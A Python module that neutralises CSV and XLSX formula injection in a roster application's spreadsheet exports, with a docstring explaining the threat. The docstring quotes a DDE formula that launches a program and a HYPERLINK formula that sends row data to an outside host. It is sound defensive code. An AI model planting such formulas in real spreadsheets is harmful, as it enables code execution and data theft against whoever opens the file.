"""Text that a person opens in Excel or WPS stays text: the one guard every spreadsheet export goes through.

A cell whose text begins with `=`, `+`, `-` or `@` (or a tab / carriage return before one of them) is read
by Excel and WPS as a formula: `=cmd|' /C calc'!A0` runs a program, `=HYPERLINK("http://…?q="&B2)` sends the
row to a stranger. Such text can reach our exports from any roster file, template or bundle, so every
exporter writes it as inert text (OWASP "CSV Injection"):

- CSV: the cell gets a leading apostrophe (`'=cmd…`), which Excel and WPS show as text and do not evaluate;
- XLSX: the cell is an explicit string cell (`t="inlineStr"`, openpyxl data_type 's') with Excel's
  "quote prefix" style, so it stays text even when the clerk edits it.

The roster import undoes the CSV apostrophe (`'=x` → `=x`), so an exported file imports back to the text as it
was typed. Numbers, dates and text that does not start with a trigger are written unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date

# OWASP's triggers, plus their full-width forms (a Chinese input method types these) and a leading tab/CR.
TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True if a spreadsheet program could take `text` for a formula."""
    if not text:
        return False
    if text[0] in TRIGGERS:
        return True
    stripped = text.lstrip(" \u3000")  # " =1+1": some programs trim before they look
    return stripped != text and stripped[:1] in TRIGGERS


def csv_cell(value: object) -> object:
    """One value ready for csv.writer: None → "", dates ISO, formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str):
        return _QUOTE + value if is_formula_like(value) else value
    if isinstance(value, date):
        return value.isoformat()
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(v) for v in values]


def xlsx_cell(ws, value: object):
    """The value to append to an openpyxl worksheet (normal or write-only): formula-like text as a string cell."""
    if isinstance(value, str) and (value.startswith("=") or is_formula_like(value)):
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"  # openpyxl made it 'f' (a formula) for a leading "="
        cell.quotePrefix = True  # Excel: the cell stays text when edited
        return cell
    return value


def xlsx_row(ws, values: Iterable[object]) -> list[object]:
    return [xlsx_cell(ws, v) for v in values]


def safe_append(ws, values: Iterable[object]) -> None:
    """ws.append(values) with formula-like text kept as text."""
    ws.append(xlsx_row(ws, values))


def unquote(text: str) -> str:
    """The text as typed, from a cell of one of our CSV exports (`'=x` → `=x`); other text unchanged."""
    if text[:1] == _QUOTE and is_formula_like(text[1:]):
        return text[1:]
    return text
